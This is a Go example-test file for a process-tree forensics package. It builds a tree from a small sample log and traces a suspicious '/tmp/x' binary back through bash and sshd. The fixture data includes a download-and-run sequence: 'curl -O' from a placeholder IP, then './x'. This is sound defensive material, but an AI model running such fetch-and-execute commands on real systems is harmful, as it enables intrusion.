package ptree_test

import (
	"fmt"

	"github.com/gophertrees/gopherwood/dataframe"
	"github.com/gophertrees/gopherwood/ptree"
)

// log is what a log looks like that no built-in schema knows.
var log = dataframe.FromMaps([]map[string]any{
	{"when": "2024-03-12T02:13:00Z", "image": "/usr/sbin/sshd", "id": 812, "parent": 1, "args": "sshd: alice"},
	{"when": "2024-03-12T02:13:02Z", "image": "/bin/bash", "id": 900, "parent": 812, "args": "-bash"},
	{"when": "2024-03-12T02:13:09Z", "image": "/usr/bin/curl", "id": 911, "parent": 900, "args": "curl -O http://198.51.100.23/x"},
	{"when": "2024-03-12T02:13:15Z", "image": "/tmp/x", "id": 912, "parent": 900, "args": "./x"},
})

var schema = ptree.Schema{
	ProcessName: "image", ProcessID: "id", ParentID: "parent", TimeStamp: "when", CommandLine: "args", PathSeparator: "/",
}

func ExampleBuildProcessTree() {
	tree, err := ptree.BuildProcessTree(log, ptree.Options{Schema: schema, ShowSummary: true})
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Print(tree)
	fmt.Print(tree.Findings())
	// Output:
	// {'Processes': 5, 'RootProcesses': 1, 'LeafProcesses': 2, 'BranchProcesses': 2, 'IsolatedProcesses': 0, 'LargestTreeDepth': 4}
	// unknown  1  before the log
	// └─ sshd  812  2024-03-12 02:13:00  sshd: alice
	//    └─ bash  900  2024-03-12 02:13:02  -bash
	//       ├─ curl  911  2024-03-12 02:13:09  curl -O http://198.51.100.23/x
	//       └─ x  912  2024-03-12 02:13:15  ./x
	// 1 parents inferred, not in the log
	// 1 processes under a parent that is not in the log
}

func ExampleGetAncestors() {
	tree, err := ptree.BuildProcessTree(log, ptree.Options{Schema: schema})
	if err != nil {
		fmt.Println(err)
		return
	}
	suspect := tree.Where(dataframe.HasPrefix("image", "/tmp/")).At(0)
	ancestors := ptree.GetAncestors(tree, suspect)
	for i := range ancestors.Len() {
		fmt.Println(ancestors.At(i).Key)
	}
	// Output:
	// unknown|1|1970-01-01 00:00:00.000000
	// /usr/sbin/sshd|812|2024-03-12 02:13:00.000000
	// /bin/bash|900|2024-03-12 02:13:02.000000
	// /tmp/x|912|2024-03-12 02:13:15.000000
}

func ExampleGetDescendents() {
	tree, err := ptree.BuildProcessTree(log, ptree.Options{Schema: schema})
	if err != nil {
		fmt.Println(err)
		return
	}
	shell := tree.Loc("/bin/bash|900|2024-03-12 02:13:02.000000")
	started := ptree.GetDescendents(tree, shell, ptree.Query{ExcludeSource: true})
	fmt.Println(started.Col("args").Strings())
	// Output: [curl -O http://198.51.100.23/x ./x]
}
